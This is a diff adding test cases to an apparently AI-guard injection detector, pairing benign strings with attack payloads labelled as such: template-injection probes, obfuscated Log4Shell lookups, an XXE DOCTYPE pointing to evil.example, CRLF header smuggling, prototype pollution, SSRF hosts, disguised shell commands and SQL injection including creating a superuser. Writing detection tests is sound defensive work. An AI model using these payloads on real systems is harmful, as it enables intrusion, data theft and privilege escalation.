@@ -9,6 +9,87 @@ namespace LlmGuard.Plugins.InjectionProtection.Tests;
 /// <summary>Forms that decide between an attack of the web types and what looks like one, side by side.</summary>
 public sealed class WebFormTests
 {
+    // Expressions of templates: showing fields, through filters and functions of the page's own, and everything else.
+    [TestCase("{{ user.first_name | default(\"there\") }}", false)]
+    [TestCase("{{ 'hello' | translate }}", false)]
+    [TestCase("{{ price * 2 }} {{ loop.index + 1 }}", false)]
+    [TestCase("{{ config.site_name }}", false)]
+    [TestCase("{% if user %}Hi {{ user.name }}{% endif %}", false)]
+    [TestCase("<%= user.name %>", false)]
+    [TestCase("${items.map(i => i.price).join(', ')}", false)]
+    [TestCase("{{ 7 * 7 }}", true)]
+    [TestCase("{{ config.items() }}", true)]
+    [TestCase("{{ ''['__class__'] }}", true)]
+    [TestCase("{{ ['id'] | map('system') }}", true)]
+    [TestCase("<%= `id` %>", true)]
+    [TestCase("<%= File.read('/srv/a') %>", true)]
+    [TestCase("${\"x\".length()}", true)]
+    [TestCase("{% import os %}", true)]
+
+    // Lookups, by what they resolve to.
+    [TestCase("${${PROJECT}_DIR}/lib", false)]
+    [TestCase("${PORT:-1}", false)]
+    [TestCase("${${lower:J}ndi:ldap://x/a}", true)]
+    [TestCase("${${env:X:-j}${env:Y:-n}di:dns://x}", true)]
+    [TestCase("${${a:-${b:-jn}}di:rmi://x}", true)]
+
+    // Names of files, as values and in sentences about them.
+    [TestCase("the umask is set in /etc/profile and nowhere else", false)]
+    [TestCase("/etc/kubernetes/admin.conf", true)]
+    [TestCase("cat /etc/profile", true)]
+
+    // Names of classes in logs, files and declarations.
+    [TestCase("java.lang.IllegalStateException: closed", false)]
+    [TestCase("lib/numpy/__init__.py", false)]
+    [TestCase("{\"constructor\":\"McLaren\"}", false)]
+    [TestCase("{\"constructor\": {\"prototype\": {\"x\": 1}}}", true)]
+    [TestCase("x[constructor][prototype][y]=1", true)]
+
+    // Pages and pictures.
+    [TestCase("<svg width=\"16\" viewBox=\"0 0 16 16\"><path d=\"M0\"/>", false)]
+    [TestCase("<meta charset=\"utf-8\"><style>p { color: red }</style>", false)]
+    [TestCase("<meta http-equiv=\"refresh\" content=\"0;url=//x\">", true)]
+    [TestCase("<style>@import '//x';</style>", true)]
+    [TestCase("<room onsite=\"yes\">", false)]
+    [TestCase("<x onxyz=1>", true)]
+    [TestCase("the tag <script> is for programs", false)]
+    [TestCase("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>", false)]
+    [TestCase("<!DOCTYPE r PUBLIC \"-//A//B//EN\" \"http://evil.example/x.dtd\"><r/>", true)]
+
+    // Breaks in escapes, and what follows them.
+    [TestCase("a%0D%0ASecond line", false)]
+    [TestCase("a%0d%0aX-Admin: 1", true)]
+    [TestCase("a%E5%98%8A%E5%98%8DSet-Cookie:x=1", true)]
+
+    // Machines.
+    [TestCase("http://localhost:5173/users", false)]
+    [TestCase("see http://10.0.0.1/admin for more", false)]
+    [TestCase("http://10.0.0.1/admin", true)]
+    [TestCase("kubernetes.default.svc.cluster.local/api", true)]
+
+    // Commands by their form.
+    [TestCase("tea; cat food; dog food", false)]
+    [TestCase("100 Main St. #5; Apt 'B'", false)]
+    [TestCase("user's guide; admin's handbook", false)]
+    [TestCase("x;perf --version", true)]
+    [TestCase("nohup ifconfig", true)]
+    [TestCase("alias a='curl x'", true)]
+    [TestCase("/bi[n]/bash", true)]
+    [TestCase("src/app/[slug]/page.tsx", false)]
+    [TestCase("if \"%1\"==\"\" goto error", true)]
+    [TestCase("cat ${HOME:0:1}etc${HOME:0:1}hosts", true)]
+
+    // SQL, and what has its words.
+    [TestCase("5 > 3 and 2 < 4", false)]
+    [TestCase("{\"sku\":\"OR-1=1-KIT\",\"qty\":2}", false)]
+    [TestCase("{\"sql\":\"SELECT id, name FROM customers WHERE country = 'DE'\"}", false)]
+    [TestCase("{\"sql\":\"SELECT id FROM customers WHERE 1=1\"}", true)]
+    [TestCase("{\"sql\":\"SELECT id FROM customers WHERE country = 'DE'\",\"x\":\"' or 1=1--\"}", true)]
+    [TestCase("SELECT name FROM users WHERE id = 7 -- by id", false)]
+    [TestCase("{\"select a from b where c = 1\"", false)]
+    [TestCase("1 OR 17-7=10", true)]
+    [TestCase("'; CREATE USER eve SUPERUSER PASSWORD 'x'--", true)]
+
     // Handlers of frameworks, which a browser would run to no effect, and those that do something.
     [TestCase("<button onClick={save}>", false)]
     [TestCase("<button onClick={() => save(1)}>", false)]
